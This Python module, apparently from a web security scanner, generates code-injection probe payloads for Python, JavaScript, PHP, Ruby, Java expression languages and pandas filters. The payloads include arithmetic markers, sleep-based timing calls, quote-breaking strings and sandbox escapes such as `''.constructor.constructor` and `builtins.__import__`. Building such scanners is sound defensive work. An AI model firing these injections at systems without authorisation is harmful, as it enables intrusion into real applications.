"""Payloads of `rce` for code that is evaluated: a product in the words of each language, bare or out of a quoted text.

`{before}` and `{after}` stand for fresh letters, `{left}` and `{right}` for random numbers; the letters with the product
between them are nowhere in the request. `{value}` stands for the baseline's value.
"""

import re
from collections.abc import Callable, Iterator
from typing import NamedTuple

from gatecrash.core.testing.payloads.rce import Numbers
from gatecrash.core.testing.payloads.rce_functions import given_back, in_class, language_of_function


class Language(NamedTuple):
    """How a language writes a product as text. join: two texts. method: of a text that joins another to it, where the sign for
    it may add numbers alone; empty where it does not. wait: a call that waits `{seconds}`; empty where none does.

    number: reads `{letters}` as a number of base 36, which arithmetic alone cannot; empty where no short call does.
    unit: how many seconds it waits for one that is asked for.
    error: fails with a message that quotes `{text}`, so that what was computed is told where the result is not.
    """

    name: str
    product: str
    join: str
    wait: str = ""
    comment: str = "#"
    number: str = ""
    error: str = ""
    unit: float = 1.0
    method: str = ""


# Functions of one's own: safe evaluators and the expressions of templates know str(), int() and methods, and none of these.
PYTHON = Language(
    "Python",
    "(lambda:({left}*{right}).__str__())()",
    "+",
    "__import__('time').sleep({seconds})",
    number="(lambda:int('{letters}',36))()",
    error="int({text})",
)
# Its number is read behind the constructor of a text's constructor, which is reached in expressions that know no function
# of one's own, too: libraries that compute formulas, and the languages of templates in pages.
JAVASCRIPT = Language(
    "JavaScript",
    "(function(){{return {left}*{right}}})()",
    "+",
    # Waits without work, in Node's main thread too: all others wait with it, so not for long.
    "Atomics.wait(new Int32Array(new SharedArrayBuffer(4)),0,0,{seconds}*1e3)",
    unit=0.4,
    comment="//",
    number='"".constructor.constructor("return parseInt(\'{letters}\',36)")()',
    error="null[{text}]",
)
# Some databases know `sleep`, too, and would carry it out for each row: none of them reads a choice that is written so.
_SLEEP = "sleep({seconds})?1:0"
PHP = Language("PHP or Perl", "({left}*{right})", ".", _SLEEP, number="intval('{letters}',36)", error="die({text})")
RUBY = Language("Ruby", "({left}*{right}).to_s", "+", _SLEEP, number="'{letters}'.to_i(36)", error="Integer({text})")
# SpEL, OGNL, MVEL, Groovy, Jakarta's EL and their like, each with its own way to a class. Those that are shut in know methods of
# texts, and not what class a text is of: its name has sixteen letters.
JAVA = Language(
    "an expression of Java",
    "({left}*{right}*(17-''.getClass().getName().length())).toString()",
    "+",
    "T(java.lang.Thread).sleep({seconds}*1000)",
    comment="//",
    method="concat",
)
OGNL = JAVA._replace(wait="@java.lang.Thread@sleep({seconds}*1000)")
PLAIN_JAVA = JAVA._replace(wait="java.lang.Thread.sleep({seconds}*1000)")
# Filters of tables (pandas' query and eval): no function of one's own and no call of Python's, but `@` reaches whatever the
# code around them has imported, and that is nearly always called `pd`.
PANDAS = Language(
    "Python, in a filter of pandas",
    "",
    "",
    "@pd.core.frame.com.builtins.__import__('time').sleep({seconds})",
    number="@pd.core.frame.com.builtins.int('{letters}',36)",
)
# Whoever only looks whether code is sound carries out what stands beside a function's parameters: they are read when it is defined.
PYTHON_DEFINED = PYTHON._replace(wait="def check(now=__import__('time').sleep({seconds})):\n  pass")
LANGUAGES = (PYTHON, JAVASCRIPT, PHP, RUBY, JAVA)
# Ruby's words are PHP's.
WAITING = (PYTHON, PYTHON_DEFINED, PHP, JAVASCRIPT, JAVA, OGNL, PLAIN_JAVA, PANDAS)
# A text in each language that holds no quote, as it may stand in quotes of either kind, and no plus sign, which who decodes a
# header or a cookie like a form reads as a blank. join: goes on behind any text.
WAITING_WITHIN = (
    PYTHON._replace(wait="str(__import__(bytes((116,105,109,101)).decode()).sleep({seconds}))", join="and"),
    JAVASCRIPT._replace(join="&&"),
    PHP._replace(wait="sleep({seconds})"),
    RUBY._replace(wait="sleep({seconds}).to_s", join="&&"),
)
# Carried out once, wherever it stands: bare, in single quotes, in double quotes. To the others it is text.
_WITHIN = "{call} {join}'{join} {call} {join}'{join}\"{join} {call} {join}\""


# A product that every language computes, and SQL too: a suspicion and no proof.
PLAIN = "{left}*{right}"
# In the place of a number, for what changes something: many read as a number what a text begins with, and would change another object.
ENCLOSED = "({left}*{right})"
# The same where it says how much or how many: less than one. What two numbers below a thousand come to stands behind the point.
FRACTION = "({left}*{right}/1000000.0)"
# Breaks a text in any quotes.
BREAKS = "{value}'\""
# As odd, and nothing to any text in quotes. In the other order a shell would make a file of the word behind them.
ODD = "{value}><"
BARE, SINGLE, DOUBLE, STATEMENT = "bare", "in single quotes", "in double quotes", "statement"
# What PHP computes within double quotes: filters that care for quotes alone leave it.
WITHIN = "within double quotes"
# What follows the value is cut off: another operand would not agree with a text.
FIRST = "at the beginning"
# What is computed is told in an error's message.
COMPLAINED = "told by an error"
# What is computed must be a number, or is shown as one.
NUMERIC = "as a number"
# The value is the source of a function, which is called.
GIVEN_BACK, FAILING = "given back by a function", "told by an error of a function"


# Of base 36: who counts to such a number is done soon.
_DIGITS = 4


class Place(NamedTuple):
    """A language and where the value stands in its code."""

    language: Language
    where: str

    @property
    def name(self) -> str:
        """For people."""
        return f"{self.language.name}, {self.where}"


FOR_EXPRESSIONS = (*(Place(language, BARE) for language in LANGUAGES), Place(PHP, STATEMENT))
# Where a product was computed, and no text can be shown.
FOR_ARITHMETIC = tuple(Place(language, NUMERIC) for language in (*LANGUAGES, PANDAS) if language.number)
# One operand of several.
FOR_OPERANDS = tuple(Place(language, FIRST) for language in LANGUAGES)
# Where what breaks code is told in an interpreter's words, and no result is shown.
FOR_ERRORS = tuple(Place(language, COMPLAINED) for language in LANGUAGES if language.error)
# Of texts that an application in PHP shows.
FOR_PHP = (Place(PHP, WITHIN),)
# By the language of a value that is the source of a function.
FOR_FUNCTIONS = {language.name: (Place(language, GIVEN_BACK),) for language in (PYTHON, JAVASCRIPT)}
FOR_FAILING_FUNCTIONS = {language.name: (Place(language, FAILING),) for language in (PYTHON, JAVASCRIPT)}
FOR_TEXTS = tuple(Place(language, where) for language in LANGUAGES for where in (SINGLE, DOUBLE))


def fill(place: Place, value: str, numbers: Numbers, *, tame: bool = False) -> str:
    """The payload. tame: the product stands in the text and is no code."""
    if place.where in (GIVEN_BACK, FAILING):
        inner = Place(place.language, BARE if place.where == GIVEN_BACK else COMPLAINED)
        return given_back(value, fill(inner, value, numbers, tame=tame))
    language, join = place.language, place.language.join
    if place.where == NUMERIC:
        call = language.number.format(letters=numbers.before[:_DIGITS])
        return f"'{call.replace(chr(39), '')}'" if tame else call
    product = language.product.format(left=numbers.left, right=numbers.right)
    if place.where == WITHIN:
        return value + ("{(" if tame else "{${") + f"print({numbers.left}*{numbers.right})" + (")}" if tame else "}}")
    if place.where in (SINGLE, DOUBLE):
        quote = "" if tame else "'" if place.where == SINGLE else '"'
        end = value[-1] if _QUOTED.fullmatch(value) else ""
        return f"{value.removesuffix(end)}{numbers.before}{quote}{join}{product}{join}{quote}{numbers.after}{end}"
    if tame:
        text = f"'{numbers.before}{join}{product.replace(chr(39), '')}{join}{numbers.after}'"
        return language.error.format(text=text) if place.where == COMPLAINED else text
    text = f"'{numbers.before}'{join}{product}{join}'{numbers.after}'"
    if language.method:
        text = f"'{numbers.before}'.{language.method}({product}).{language.method}('{numbers.after}')"
    if place.where == COMPLAINED:
        return language.error.format(text=text)
    if place.where == FIRST:
        return text + language.comment
    return f"print({text});" if place.where == STATEMENT else text


def computed(place: Place, numbers: Numbers) -> str:
    """What the answer shows where the payload was evaluated."""
    if place.where == NUMERIC:
        return str(int(numbers.before[:_DIGITS], 36))
    if place.where == WITHIN:
        return str(numbers.left * numbers.right)
    return f"{numbers.before}{numbers.left * numbers.right}{numbers.after}"


def fill_wait(language: Language, seconds: int, *, decoy: bool = False) -> str:
    """A bare call that waits. decoy: of a function that only looks like it."""
    call = language.wait.format(seconds=f"{seconds * language.unit:g}")
    return call.replace("sleep", "slepe").replace(".wait(", ".wiat(") if decoy else call


def waits_in_definitions(value: str) -> Iterator[tuple[Language, Callable[..., str]]]:
    """The same within the function or the class whose source the value is: its language, and what fills the call in."""
    language = {PYTHON.name: PYTHON, JAVASCRIPT.name: JAVASCRIPT}.get(language_of_function(value) or "")
    if in_class(value, "pass") is not None:
        yield PYTHON, lambda language, seconds, decoy: in_class(value, fill_wait(language, seconds, decoy=decoy)) or ""
    if language is not None:
        yield language, lambda language, seconds, decoy: given_back(value, fill_wait(language, seconds, decoy=decoy))


def fill_wait_within(language: Language, seconds: int, *, decoy: bool = False) -> str:
    """The same for one of WAITING_WITHIN, bare or in quotes of either kind."""
    return _WITHIN.format(call=fill_wait(language, seconds, decoy=decoy), join=language.join)


_CODE_NAMED = re.compile(
    r"expr|calc|formula|eval|code|script|^math|equation|^exec|condition|rule|lambda|func|preTax|afterTax|roth",
    re.IGNORECASE,
)
_CODE_LIKE = re.compile(
    r"[\d.]+\s*[-+*/%]\s*[\d.(].*|\w+\(.*\)|(?:lambda|function|return)\b.*|(?:def|import)\s+\w.*",
    re.DOTALL,
)
# A comparison, as filters of tables are written: `age > 3 and town == 'Bern'`; no tag, no address in brackets, and no condition
# of a store of documents (`this.age > 3`), which `nosqli` tells.
_COMPARISON = re.compile(r"(?!this\.)[\w.]++\s*+(?:[<>!=]=|[<>])\s*+[-'\"\w.].*", re.DOTALL)
_BRACKETS = re.compile(r"<[^<>\s]*+>")
# A whole text in quotes. What is read into it must end as it does: a check may look at its first sign and its last.
_QUOTED = re.compile(r"(['\"])(?:(?!\1)[^\\])*\1")


def is_named_for_code(parameter: str) -> bool:
    """Whether a parameter by its name holds code."""
    return _CODE_NAMED.search(parameter) is not None


def is_code(value: str) -> bool:
    """Whether a value looks like code: a sum, a call, a function, a class, a comparison, a text in quotes."""
    if in_class(value, "pass") is not None:
        return True
    if _COMPARISON.fullmatch(value) is not None and _BRACKETS.search(value) is None:
        return True
    return _CODE_LIKE.fullmatch(value) is not None or _QUOTED.fullmatch(value) is not None
